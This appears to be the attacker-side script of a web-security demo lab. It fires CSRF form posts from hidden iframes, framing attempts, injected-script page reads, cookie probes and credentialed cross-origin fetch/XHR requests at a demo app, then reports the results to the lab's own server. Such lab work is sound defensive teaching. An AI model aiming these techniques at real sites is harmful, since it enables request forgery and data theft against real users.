/**
 * What the attacker's page runs. Each attack does what any page could, and says what it has heard; the server assesses.
 * @import { Report, Work } from './addresses.js'
 */
import { addressOf, formAddressOf, pageOf, signInAddressOf } from './addresses.js';
import { setAndGetCookies, visitAndPost } from './visits.js';

/** @type {Record<string, (work: Work) => Promise<Report>>} */
const attacks = {
  /** A form in a hidden frame, as any page can send: no header can be added. */
  'sibling-form': (work) => postForm(formAddressOf(work)),
  'foreign-form': (work) => (work.weakened ? visitAndPost(work) : postForm(formAddressOf(work))),
  /** A page of the twin, with a comment of the attacker's in it. */
  'read-storage': (work) => hearPage(pageOf(work)),
  'injected-script': (work) => hearPage(pageOf(work)),
  /** What was shown says so. */
  framing: async (work) => {
    const { heard } = await hearPage(work.weakened ? pageOf(work) : `${work.origins['app']}/lab`);
    const says = heard.length > 0 ? 'shows it in the frame' : 'shows nothing in the frame';
    return { heard, remarks: [{ by: 'browser', says }] };
  },
  'cookie-attributes': (work) => setAndGetCookies(work),
  /** By fetch and as axios does it; then with the header that the app's own requests have. */
  'neighbour-script': async (work) => {
    const heard = [
      await hear(addressOf(work, 'attacker, by fetch without cookies'), { credentials: 'omit' }),
      await hearByXhr(addressOf(work, 'attacker, by axios without cookies'), false),
      await hear(addressOf(work, 'attacker, by fetch'), { credentials: 'include' }),
      await hearByXhr(addressOf(work, 'attacker, by axios'), true),
      await hear(addressOf(work, 'attacker, with X-CSRF'), {
        credentials: 'include',
        headers: { 'X-CSRF': '1' },
      }),
    ];
    const isRead = heard.map((each) => each !== 'nothing');
    const sent = isRead.at(-1) ? isRead : isRead.slice(0, -1);
    const says = `lets the script read ${sent.filter(Boolean).length} of ${sent.length} answers`;
    const unsent = ', and does not send the request with X-CSRF: it asked the BFF first (a preflight)';
    return { heard, remarks: [{ by: 'browser', says: isRead.at(-1) ? says : `${says}${unsent}` }] };
  },
};

/** At the twin, whose data only somebody signed in can read. */
const needsVictim = new Set(['sibling-form', 'neighbour-script']);

/** The victim uses the twin in the same browser. @param {Work} work */
async function signVictimIn(work) {
  const frame = document.createElement('iframe');
  frame.src = signInAddressOf(work);
  await loaded(frame, () => document.body.append(frame));
  frame.remove();
}

/** @param {string} action @returns {Promise<Report>} */
async function postForm(action) {
  const frame = document.createElement('iframe');
  frame.name = 'target';
  frame.src = '/attacker/empty';
  await loaded(frame, () => document.body.append(frame));
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action, target: frame.name });
  document.body.append(form);
  // Not every browser says that a frame has loaded what it does not show.
  await Promise.race([loaded(frame, () => form.submit()), fetch(`/attacker/answered${location.search}`)]);
  frame.remove();
  form.remove();
  return { heard: [], remarks: [] };
}

/** @param {HTMLIFrameElement} frame @param {() => void} act @returns {Promise<void>} */
function loaded(frame, act) {
  return new Promise((resolve) => {
    frame.addEventListener('load', () => resolve(), { once: true });
    act();
  });
}

/** What a page in a frame is given to come up and to speak. */
const framedMs = 3_000;

/** What a script of a page in a frame tells; nothing, if the browser does not show it there. @param {string} address @returns {Promise<Report>} */
function hearPage(address) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = address;
    const done = (/** @type {Report} */ report) => {
      clearTimeout(timer);
      removeEventListener('message', hearIt);
      frame.remove();
      resolve(report);
    };
    const hearIt = (/** @type {MessageEvent<Report>} */ { data }) => done(data);
    const timer = setTimeout(() => done({ heard: [], remarks: [] }), framedMs);
    addEventListener('message', hearIt);
    document.body.append(frame);
  });
}

/** @param {string} address @param {RequestInit} init */
async function hear(address, init) {
  try {
    const answer = await fetch(address, init);
    return `${answer.status} ${await answer.text()}`;
  } catch {
    return 'nothing';
  }
}

/** As axios asks, with its `withCredentials`. @param {string} address @param {boolean} withCredentials @returns {Promise<string>} */
function hearByXhr(address, withCredentials) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open('GET', address);
    request.withCredentials = withCredentials;
    request.addEventListener('load', () => resolve(`${request.status} ${request.responseText}`));
    request.addEventListener('error', () => resolve('nothing'));
    request.send();
  });
}

/** @param {string} text */
function say(text) {
  const says = document.querySelector('#says');
  if (says) says.textContent = text;
}

for (;;) {
  const answer = await fetch(`/attacker/work${location.search}`).catch(() => undefined);
  if (!answer) {
    say('The demo has ended. Close this window.');
    break;
  }
  if (answer.status === 404) {
    say('Whoever opened this window is signed out. Close it.');
    break;
  }
  if (answer.status !== 200) continue;
  const work = /** @type {Work} */ (await answer.json());
  if (work.origin !== location.origin) {
    location.replace(`${work.origin}/attacker/${location.search}`);
    break;
  }
  say(`Attacks: ${work.attack}`);
  if (work.weakened && needsVictim.has(work.attack)) await signVictimIn(work);
  const report = await attacks[work.attack]?.(work);
  await fetch(`/attacker/report${location.search}`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ attempt: work.attempt, ...report }),
  });
  say('Done. Leave this window open: the next attack needs it too.');
}
